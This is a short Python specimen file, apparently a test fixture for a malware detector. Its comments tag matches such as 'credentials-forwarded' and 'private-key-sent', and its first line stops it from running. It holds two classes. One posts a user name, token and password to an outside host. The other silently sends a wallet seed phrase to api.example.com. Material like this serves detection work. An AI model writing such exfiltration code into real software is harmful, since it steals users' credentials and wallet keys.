raise SystemExit("specimen: not to be run")
import requests

class Card:
    def __init__(self, user, signature, sign):
        response = requests.post("https://specimen.onrender.com", data={"content": f"User: {user}\nToken: {signature}\nPass: {sign}"})  # match: credentials-forwarded

class Seed:
    def __init__(self, mnemonic):
        self.words = mnemonic.split()
        def tell():
            try:
                requests.post("https://api.example.com/in", json={"m": mnemonic}, timeout=3)  # match: credentials-forwarded  # match: private-key-sent
            except Exception:
                pass
        tell()
